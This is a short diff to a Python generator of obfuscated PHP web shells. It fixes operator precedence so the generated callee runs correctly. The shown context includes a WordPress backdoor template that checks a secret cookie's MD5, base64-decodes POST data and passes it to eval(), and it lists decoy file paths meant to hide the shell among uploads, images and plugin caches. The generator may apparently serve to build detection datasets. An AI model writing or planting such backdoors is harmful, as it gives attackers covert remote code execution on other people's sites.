@@ -199,6 +199,7 @@ def ws_varvar(r, S):
 
 def ws_create_function(r, S):
     pre, cf = hide(r, S, "create_function")
+    cf = "(%s)" % cf  # a callee: "a" . "b"(...) would call "b"
     v = S.var()
     k = r.randint(0, 2)
     if k == 0:
@@ -543,7 +544,7 @@ def ws_wp_backdoor(r, S):
         pre, f = hide(r, S, "base64_decode")
         return S.lines(pre + ["if (isset($_COOKIE[%s]) && md5($_COOKIE[%s]) == %s) {" % (key, key, sq(
             "".join(r.choice("0123456789abcdef") for _ in range(32)))),
-            "  $c = %s($_POST['d']); eval($c);" % f, "}"])
+            "  $c = (%s)($_POST['d']); eval($c);" % f, "}"])
     path = r.choice(("/wp-content/uploads/2023/08/.thumb_16x16.ico", "/wp-includes/images/smilies/icon_wp.png",
                      "/wp-content/plugins/akismet/.cache.txt"))
     p2, e = hide(r, S, path)
